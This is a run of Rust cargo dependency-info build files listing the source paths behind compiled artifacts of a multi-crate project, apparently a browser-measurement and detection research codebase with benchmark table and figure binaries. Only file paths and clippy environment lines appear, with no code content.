/root/repo/target/release/deps/table08-0a149535c59e077f: crates/bench/src/bin/table08.rs

crates/bench/src/bin/table08.rs:
