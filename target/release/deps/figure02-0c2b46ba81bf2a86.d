/root/repo/target/release/deps/figure02-0c2b46ba81bf2a86.d: crates/bench/src/bin/figure02.rs

/root/repo/target/release/deps/figure02-0c2b46ba81bf2a86: crates/bench/src/bin/figure02.rs

crates/bench/src/bin/figure02.rs:
