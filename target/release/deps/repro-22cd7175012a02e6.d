/root/repo/target/release/deps/repro-22cd7175012a02e6.d: crates/bench/src/bin/repro.rs

/root/repo/target/release/deps/repro-22cd7175012a02e6: crates/bench/src/bin/repro.rs

crates/bench/src/bin/repro.rs:
