/root/repo/target/debug/deps/table07-e29750971941d617.d: crates/bench/src/bin/table07.rs Cargo.toml

/root/repo/target/debug/deps/libtable07-e29750971941d617.rmeta: crates/bench/src/bin/table07.rs Cargo.toml

crates/bench/src/bin/table07.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
