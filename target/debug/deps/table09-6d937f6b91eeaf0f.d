/root/repo/target/debug/deps/table09-6d937f6b91eeaf0f.d: crates/bench/src/bin/table09.rs Cargo.toml

/root/repo/target/debug/deps/libtable09-6d937f6b91eeaf0f.rmeta: crates/bench/src/bin/table09.rs Cargo.toml

crates/bench/src/bin/table09.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
