/root/repo/target/debug/deps/webgen-22f39b80ffa3eec7.d: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs Cargo.toml

/root/repo/target/debug/deps/libwebgen-22f39b80ffa3eec7.rmeta: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs Cargo.toml

crates/webgen/src/lib.rs:
crates/webgen/src/behaviour.rs:
crates/webgen/src/blocklists.rs:
crates/webgen/src/categories.rs:
crates/webgen/src/materialise.rs:
crates/webgen/src/providers.rs:
crates/webgen/src/site.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
