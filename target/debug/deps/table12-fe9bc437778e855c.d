/root/repo/target/debug/deps/table12-fe9bc437778e855c.d: crates/bench/src/bin/table12.rs

/root/repo/target/debug/deps/table12-fe9bc437778e855c: crates/bench/src/bin/table12.rs

crates/bench/src/bin/table12.rs:
