/root/repo/target/debug/deps/table13-27ad96e5345ad244.d: crates/bench/src/bin/table13.rs Cargo.toml

/root/repo/target/debug/deps/libtable13-27ad96e5345ad244.rmeta: crates/bench/src/bin/table13.rs Cargo.toml

crates/bench/src/bin/table13.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
