/root/repo/target/debug/deps/figure06-f82412471e7122f1.d: crates/bench/src/bin/figure06.rs

/root/repo/target/debug/deps/figure06-f82412471e7122f1: crates/bench/src/bin/figure06.rs

crates/bench/src/bin/figure06.rs:
