/root/repo/target/debug/deps/table02-ed483bbdd70915f5.d: crates/bench/src/bin/table02.rs Cargo.toml

/root/repo/target/debug/deps/libtable02-ed483bbdd70915f5.rmeta: crates/bench/src/bin/table02.rs Cargo.toml

crates/bench/src/bin/table02.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
