/root/repo/target/debug/deps/figure03-c7bc7759ce29509d.d: crates/bench/src/bin/figure03.rs

/root/repo/target/debug/deps/figure03-c7bc7759ce29509d: crates/bench/src/bin/figure03.rs

crates/bench/src/bin/figure03.rs:
