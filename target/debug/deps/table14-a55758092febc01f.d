/root/repo/target/debug/deps/table14-a55758092febc01f.d: crates/bench/src/bin/table14.rs Cargo.toml

/root/repo/target/debug/deps/libtable14-a55758092febc01f.rmeta: crates/bench/src/bin/table14.rs Cargo.toml

crates/bench/src/bin/table14.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
