/root/repo/target/debug/deps/gullible-5aecc345dae5e390.d: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

/root/repo/target/debug/deps/libgullible-5aecc345dae5e390.rlib: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

/root/repo/target/debug/deps/libgullible-5aecc345dae5e390.rmeta: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

crates/core/src/lib.rs:
crates/core/src/attacks.rs:
crates/core/src/compare.rs:
crates/core/src/literature.rs:
crates/core/src/report.rs:
crates/core/src/scan.rs:
crates/core/src/surface.rs:
