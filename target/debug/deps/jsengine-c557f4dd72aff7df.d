/root/repo/target/debug/deps/jsengine-c557f4dd72aff7df.d: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs

/root/repo/target/debug/deps/jsengine-c557f4dd72aff7df: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs

crates/jsengine/src/lib.rs:
crates/jsengine/src/ast.rs:
crates/jsengine/src/error.rs:
crates/jsengine/src/interp.rs:
crates/jsengine/src/lexer.rs:
crates/jsengine/src/object.rs:
crates/jsengine/src/parser.rs:
crates/jsengine/src/value.rs:
crates/jsengine/src/builtins.rs:
