/root/repo/target/debug/deps/openwpm-af71390ae3ce7078.d: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs

/root/repo/target/debug/deps/libopenwpm-af71390ae3ce7078.rlib: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs

/root/repo/target/debug/deps/libopenwpm-af71390ae3ce7078.rmeta: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs

crates/openwpm/src/lib.rs:
crates/openwpm/src/config.rs:
crates/openwpm/src/fault.rs:
crates/openwpm/src/instrument/mod.rs:
crates/openwpm/src/instrument/honey.rs:
crates/openwpm/src/instrument/http.rs:
crates/openwpm/src/instrument/stealth.rs:
crates/openwpm/src/instrument/vanilla.rs:
crates/openwpm/src/instrument/watch.rs:
crates/openwpm/src/manager.rs:
crates/openwpm/src/records.rs:
crates/openwpm/src/supervisor.rs:
crates/openwpm/src/wpm_browser.rs:
