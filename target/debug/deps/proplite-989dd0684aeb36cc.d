/root/repo/target/debug/deps/proplite-989dd0684aeb36cc.d: crates/proplite/src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libproplite-989dd0684aeb36cc.rmeta: crates/proplite/src/lib.rs Cargo.toml

crates/proplite/src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
