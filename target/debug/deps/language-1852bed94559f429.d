/root/repo/target/debug/deps/language-1852bed94559f429.d: crates/jsengine/tests/language.rs Cargo.toml

/root/repo/target/debug/deps/liblanguage-1852bed94559f429.rmeta: crates/jsengine/tests/language.rs Cargo.toml

crates/jsengine/tests/language.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
