/root/repo/target/debug/deps/bench-9a08608ce995ff3d.d: crates/bench/src/lib.rs

/root/repo/target/debug/deps/libbench-9a08608ce995ff3d.rlib: crates/bench/src/lib.rs

/root/repo/target/debug/deps/libbench-9a08608ce995ff3d.rmeta: crates/bench/src/lib.rs

crates/bench/src/lib.rs:
