/root/repo/target/debug/deps/netsim-9303d26992301a9a.d: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs Cargo.toml

/root/repo/target/debug/deps/libnetsim-9303d26992301a9a.rmeta: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs Cargo.toml

crates/netsim/src/lib.rs:
crates/netsim/src/blocklist.rs:
crates/netsim/src/cookies.rs:
crates/netsim/src/http.rs:
crates/netsim/src/url.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
