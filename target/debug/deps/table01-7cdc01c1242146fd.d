/root/repo/target/debug/deps/table01-7cdc01c1242146fd.d: crates/bench/src/bin/table01.rs Cargo.toml

/root/repo/target/debug/deps/libtable01-7cdc01c1242146fd.rmeta: crates/bench/src/bin/table01.rs Cargo.toml

crates/bench/src/bin/table01.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
