/root/repo/target/debug/deps/bench-e3ec1e410dce6819.d: crates/bench/src/lib.rs

/root/repo/target/debug/deps/bench-e3ec1e410dce6819: crates/bench/src/lib.rs

crates/bench/src/lib.rs:
