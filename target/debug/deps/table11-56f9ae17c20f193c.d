/root/repo/target/debug/deps/table11-56f9ae17c20f193c.d: crates/bench/src/bin/table11.rs

/root/repo/target/debug/deps/table11-56f9ae17c20f193c: crates/bench/src/bin/table11.rs

crates/bench/src/bin/table11.rs:
