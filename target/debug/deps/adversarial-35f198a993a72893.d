/root/repo/target/debug/deps/adversarial-35f198a993a72893.d: crates/jsengine/tests/adversarial.rs

/root/repo/target/debug/deps/adversarial-35f198a993a72893: crates/jsengine/tests/adversarial.rs

crates/jsengine/tests/adversarial.rs:
