/root/repo/target/debug/deps/pipeline-94b06b19d536b619.d: crates/bench/benches/pipeline.rs Cargo.toml

/root/repo/target/debug/deps/libpipeline-94b06b19d536b619.rmeta: crates/bench/benches/pipeline.rs Cargo.toml

crates/bench/benches/pipeline.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
