/root/repo/target/debug/deps/stats-a4dd901df795d8ce.d: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

/root/repo/target/debug/deps/stats-a4dd901df795d8ce: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

crates/stats/src/lib.rs:
crates/stats/src/descriptive.rs:
crates/stats/src/ratcliff.rs:
crates/stats/src/wilcoxon.rs:
