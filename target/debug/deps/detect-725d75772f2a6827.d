/root/repo/target/debug/deps/detect-725d75772f2a6827.d: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs Cargo.toml

/root/repo/target/debug/deps/libdetect-725d75772f2a6827.rmeta: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs Cargo.toml

crates/detect/src/lib.rs:
crates/detect/src/corpus.rs:
crates/detect/src/dynamic_analysis.rs:
crates/detect/src/static_analysis.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
