/root/repo/target/debug/deps/table14-dcbf09783e1b8579.d: crates/bench/src/bin/table14.rs

/root/repo/target/debug/deps/table14-dcbf09783e1b8579: crates/bench/src/bin/table14.rs

crates/bench/src/bin/table14.rs:
