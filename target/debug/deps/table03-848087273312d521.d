/root/repo/target/debug/deps/table03-848087273312d521.d: crates/bench/src/bin/table03.rs

/root/repo/target/debug/deps/table03-848087273312d521: crates/bench/src/bin/table03.rs

crates/bench/src/bin/table03.rs:
