/root/repo/target/debug/deps/properties-6f80f21c0f58b1f0.d: crates/openwpm/tests/properties.rs

/root/repo/target/debug/deps/properties-6f80f21c0f58b1f0: crates/openwpm/tests/properties.rs

crates/openwpm/tests/properties.rs:
