/root/repo/target/debug/deps/table06-e5018a7744cf4d66.d: crates/bench/src/bin/table06.rs Cargo.toml

/root/repo/target/debug/deps/libtable06-e5018a7744cf4d66.rmeta: crates/bench/src/bin/table06.rs Cargo.toml

crates/bench/src/bin/table06.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
