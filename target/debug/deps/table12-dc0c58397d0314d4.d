/root/repo/target/debug/deps/table12-dc0c58397d0314d4.d: crates/bench/src/bin/table12.rs Cargo.toml

/root/repo/target/debug/deps/libtable12-dc0c58397d0314d4.rmeta: crates/bench/src/bin/table12.rs Cargo.toml

crates/bench/src/bin/table12.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
