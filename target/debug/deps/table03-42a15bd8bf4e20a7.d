/root/repo/target/debug/deps/table03-42a15bd8bf4e20a7.d: crates/bench/src/bin/table03.rs Cargo.toml

/root/repo/target/debug/deps/libtable03-42a15bd8bf4e20a7.rmeta: crates/bench/src/bin/table03.rs Cargo.toml

crates/bench/src/bin/table03.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
