/root/repo/target/debug/deps/browser-dea53478af32361a.d: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs Cargo.toml

/root/repo/target/debug/deps/libbrowser-dea53478af32361a.rmeta: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs Cargo.toml

crates/browser/src/lib.rs:
crates/browser/src/csp.rs:
crates/browser/src/hostobjects.rs:
crates/browser/src/page.rs:
crates/browser/src/profile.rs:
crates/browser/src/template.rs:
crates/browser/src/webgl.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
