/root/repo/target/debug/deps/gullible-282cbca9790538d6.d: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs Cargo.toml

/root/repo/target/debug/deps/libgullible-282cbca9790538d6.rmeta: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs Cargo.toml

crates/core/src/lib.rs:
crates/core/src/attacks.rs:
crates/core/src/compare.rs:
crates/core/src/literature.rs:
crates/core/src/report.rs:
crates/core/src/scan.rs:
crates/core/src/surface.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
