/root/repo/target/debug/deps/table05-5c42ddb5c4e141ba.d: crates/bench/src/bin/table05.rs

/root/repo/target/debug/deps/table05-5c42ddb5c4e141ba: crates/bench/src/bin/table05.rs

crates/bench/src/bin/table05.rs:
