/root/repo/target/debug/deps/figure04-2ffab8825dd4eaf4.d: crates/bench/src/bin/figure04.rs Cargo.toml

/root/repo/target/debug/deps/libfigure04-2ffab8825dd4eaf4.rmeta: crates/bench/src/bin/figure04.rs Cargo.toml

crates/bench/src/bin/figure04.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
