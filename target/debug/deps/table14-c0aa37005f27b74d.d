/root/repo/target/debug/deps/table14-c0aa37005f27b74d.d: crates/bench/src/bin/table14.rs Cargo.toml

/root/repo/target/debug/deps/libtable14-c0aa37005f27b74d.rmeta: crates/bench/src/bin/table14.rs Cargo.toml

crates/bench/src/bin/table14.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
