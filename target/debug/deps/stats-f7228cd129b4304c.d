/root/repo/target/debug/deps/stats-f7228cd129b4304c.d: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs Cargo.toml

/root/repo/target/debug/deps/libstats-f7228cd129b4304c.rmeta: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs Cargo.toml

crates/stats/src/lib.rs:
crates/stats/src/descriptive.rs:
crates/stats/src/ratcliff.rs:
crates/stats/src/wilcoxon.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
