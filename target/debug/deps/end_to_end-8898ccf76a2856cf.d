/root/repo/target/debug/deps/end_to_end-8898ccf76a2856cf.d: crates/core/../../tests/end_to_end.rs

/root/repo/target/debug/deps/end_to_end-8898ccf76a2856cf: crates/core/../../tests/end_to_end.rs

crates/core/../../tests/end_to_end.rs:
