/root/repo/target/debug/deps/figure03-7ceb2a1c1173b1d1.d: crates/bench/src/bin/figure03.rs Cargo.toml

/root/repo/target/debug/deps/libfigure03-7ceb2a1c1173b1d1.rmeta: crates/bench/src/bin/figure03.rs Cargo.toml

crates/bench/src/bin/figure03.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
