/root/repo/target/debug/deps/table02-0df4642647b40c68.d: crates/bench/src/bin/table02.rs

/root/repo/target/debug/deps/table02-0df4642647b40c68: crates/bench/src/bin/table02.rs

crates/bench/src/bin/table02.rs:
