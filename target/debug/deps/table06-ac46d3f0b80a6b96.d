/root/repo/target/debug/deps/table06-ac46d3f0b80a6b96.d: crates/bench/src/bin/table06.rs

/root/repo/target/debug/deps/table06-ac46d3f0b80a6b96: crates/bench/src/bin/table06.rs

crates/bench/src/bin/table06.rs:
