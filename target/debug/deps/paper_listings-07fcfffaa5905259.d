/root/repo/target/debug/deps/paper_listings-07fcfffaa5905259.d: crates/core/../../tests/paper_listings.rs Cargo.toml

/root/repo/target/debug/deps/libpaper_listings-07fcfffaa5905259.rmeta: crates/core/../../tests/paper_listings.rs Cargo.toml

crates/core/../../tests/paper_listings.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
