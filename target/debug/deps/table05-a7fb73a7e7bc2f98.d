/root/repo/target/debug/deps/table05-a7fb73a7e7bc2f98.d: crates/bench/src/bin/table05.rs

/root/repo/target/debug/deps/table05-a7fb73a7e7bc2f98: crates/bench/src/bin/table05.rs

crates/bench/src/bin/table05.rs:
