/root/repo/target/debug/deps/properties-cd8a85cfb1943995.d: crates/jsengine/tests/properties.rs Cargo.toml

/root/repo/target/debug/deps/libproperties-cd8a85cfb1943995.rmeta: crates/jsengine/tests/properties.rs Cargo.toml

crates/jsengine/tests/properties.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
