/root/repo/target/debug/deps/proplite-d114eba2f41e18cd.d: crates/proplite/src/lib.rs

/root/repo/target/debug/deps/libproplite-d114eba2f41e18cd.rlib: crates/proplite/src/lib.rs

/root/repo/target/debug/deps/libproplite-d114eba2f41e18cd.rmeta: crates/proplite/src/lib.rs

crates/proplite/src/lib.rs:
