/root/repo/target/debug/deps/figure04-de4517c0a02e1537.d: crates/bench/src/bin/figure04.rs Cargo.toml

/root/repo/target/debug/deps/libfigure04-de4517c0a02e1537.rmeta: crates/bench/src/bin/figure04.rs Cargo.toml

crates/bench/src/bin/figure04.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
