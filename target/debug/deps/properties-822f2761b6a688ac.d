/root/repo/target/debug/deps/properties-822f2761b6a688ac.d: crates/openwpm/tests/properties.rs Cargo.toml

/root/repo/target/debug/deps/libproperties-822f2761b6a688ac.rmeta: crates/openwpm/tests/properties.rs Cargo.toml

crates/openwpm/tests/properties.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
