/root/repo/target/debug/deps/properties-c43835ff7a5e1a9d.d: crates/netsim/tests/properties.rs

/root/repo/target/debug/deps/properties-c43835ff7a5e1a9d: crates/netsim/tests/properties.rs

crates/netsim/tests/properties.rs:
