/root/repo/target/debug/deps/bench-a841ca22a2c5bf65.d: crates/bench/src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libbench-a841ca22a2c5bf65.rmeta: crates/bench/src/lib.rs Cargo.toml

crates/bench/src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
