/root/repo/target/debug/deps/properties-f55407a3c0fe2ad8.d: crates/detect/tests/properties.rs

/root/repo/target/debug/deps/properties-f55407a3c0fe2ad8: crates/detect/tests/properties.rs

crates/detect/tests/properties.rs:
