/root/repo/target/debug/deps/ablation_analysis-83dc175c6f989a69.d: crates/bench/src/bin/ablation_analysis.rs Cargo.toml

/root/repo/target/debug/deps/libablation_analysis-83dc175c6f989a69.rmeta: crates/bench/src/bin/ablation_analysis.rs Cargo.toml

crates/bench/src/bin/ablation_analysis.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
