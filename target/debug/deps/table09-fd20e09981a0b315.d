/root/repo/target/debug/deps/table09-fd20e09981a0b315.d: crates/bench/src/bin/table09.rs

/root/repo/target/debug/deps/table09-fd20e09981a0b315: crates/bench/src/bin/table09.rs

crates/bench/src/bin/table09.rs:
