/root/repo/target/debug/deps/table05-ead9939dea633606.d: crates/bench/src/bin/table05.rs Cargo.toml

/root/repo/target/debug/deps/libtable05-ead9939dea633606.rmeta: crates/bench/src/bin/table05.rs Cargo.toml

crates/bench/src/bin/table05.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
