/root/repo/target/debug/deps/table10-ad999decb09fa6a2.d: crates/bench/src/bin/table10.rs Cargo.toml

/root/repo/target/debug/deps/libtable10-ad999decb09fa6a2.rmeta: crates/bench/src/bin/table10.rs Cargo.toml

crates/bench/src/bin/table10.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
