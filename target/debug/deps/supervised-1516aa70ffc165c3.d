/root/repo/target/debug/deps/supervised-1516aa70ffc165c3.d: crates/core/../../tests/supervised.rs

/root/repo/target/debug/deps/supervised-1516aa70ffc165c3: crates/core/../../tests/supervised.rs

crates/core/../../tests/supervised.rs:
