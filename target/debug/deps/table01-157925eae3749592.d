/root/repo/target/debug/deps/table01-157925eae3749592.d: crates/bench/src/bin/table01.rs Cargo.toml

/root/repo/target/debug/deps/libtable01-157925eae3749592.rmeta: crates/bench/src/bin/table01.rs Cargo.toml

crates/bench/src/bin/table01.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
