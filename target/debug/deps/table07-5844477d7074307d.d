/root/repo/target/debug/deps/table07-5844477d7074307d.d: crates/bench/src/bin/table07.rs

/root/repo/target/debug/deps/table07-5844477d7074307d: crates/bench/src/bin/table07.rs

crates/bench/src/bin/table07.rs:
