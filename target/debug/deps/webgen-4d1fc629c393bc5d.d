/root/repo/target/debug/deps/webgen-4d1fc629c393bc5d.d: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs

/root/repo/target/debug/deps/libwebgen-4d1fc629c393bc5d.rlib: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs

/root/repo/target/debug/deps/libwebgen-4d1fc629c393bc5d.rmeta: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs

crates/webgen/src/lib.rs:
crates/webgen/src/behaviour.rs:
crates/webgen/src/blocklists.rs:
crates/webgen/src/categories.rs:
crates/webgen/src/materialise.rs:
crates/webgen/src/providers.rs:
crates/webgen/src/site.rs:
