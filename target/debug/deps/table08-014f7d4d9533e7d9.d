/root/repo/target/debug/deps/table08-014f7d4d9533e7d9.d: crates/bench/src/bin/table08.rs

/root/repo/target/debug/deps/table08-014f7d4d9533e7d9: crates/bench/src/bin/table08.rs

crates/bench/src/bin/table08.rs:
