/root/repo/target/debug/deps/table13-2665e660a7b49197.d: crates/bench/src/bin/table13.rs

/root/repo/target/debug/deps/table13-2665e660a7b49197: crates/bench/src/bin/table13.rs

crates/bench/src/bin/table13.rs:
