/root/repo/target/debug/deps/stats-9c9b9048db3aca77.d: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

/root/repo/target/debug/deps/libstats-9c9b9048db3aca77.rlib: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

/root/repo/target/debug/deps/libstats-9c9b9048db3aca77.rmeta: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs

crates/stats/src/lib.rs:
crates/stats/src/descriptive.rs:
crates/stats/src/ratcliff.rs:
crates/stats/src/wilcoxon.rs:
