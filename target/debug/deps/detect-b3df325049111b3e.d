/root/repo/target/debug/deps/detect-b3df325049111b3e.d: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs Cargo.toml

/root/repo/target/debug/deps/libdetect-b3df325049111b3e.rmeta: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs Cargo.toml

crates/detect/src/lib.rs:
crates/detect/src/corpus.rs:
crates/detect/src/dynamic_analysis.rs:
crates/detect/src/static_analysis.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
