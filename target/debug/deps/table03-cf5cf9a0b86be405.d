/root/repo/target/debug/deps/table03-cf5cf9a0b86be405.d: crates/bench/src/bin/table03.rs

/root/repo/target/debug/deps/table03-cf5cf9a0b86be405: crates/bench/src/bin/table03.rs

crates/bench/src/bin/table03.rs:
