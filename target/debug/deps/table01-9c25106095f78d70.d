/root/repo/target/debug/deps/table01-9c25106095f78d70.d: crates/bench/src/bin/table01.rs

/root/repo/target/debug/deps/table01-9c25106095f78d70: crates/bench/src/bin/table01.rs

crates/bench/src/bin/table01.rs:
