/root/repo/target/debug/deps/table10-51ba874fae6e8c88.d: crates/bench/src/bin/table10.rs

/root/repo/target/debug/deps/table10-51ba874fae6e8c88: crates/bench/src/bin/table10.rs

crates/bench/src/bin/table10.rs:
