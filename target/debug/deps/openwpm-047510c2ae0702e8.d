/root/repo/target/debug/deps/openwpm-047510c2ae0702e8.d: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs Cargo.toml

/root/repo/target/debug/deps/libopenwpm-047510c2ae0702e8.rmeta: crates/openwpm/src/lib.rs crates/openwpm/src/config.rs crates/openwpm/src/fault.rs crates/openwpm/src/instrument/mod.rs crates/openwpm/src/instrument/honey.rs crates/openwpm/src/instrument/http.rs crates/openwpm/src/instrument/stealth.rs crates/openwpm/src/instrument/vanilla.rs crates/openwpm/src/instrument/watch.rs crates/openwpm/src/manager.rs crates/openwpm/src/records.rs crates/openwpm/src/supervisor.rs crates/openwpm/src/wpm_browser.rs Cargo.toml

crates/openwpm/src/lib.rs:
crates/openwpm/src/config.rs:
crates/openwpm/src/fault.rs:
crates/openwpm/src/instrument/mod.rs:
crates/openwpm/src/instrument/honey.rs:
crates/openwpm/src/instrument/http.rs:
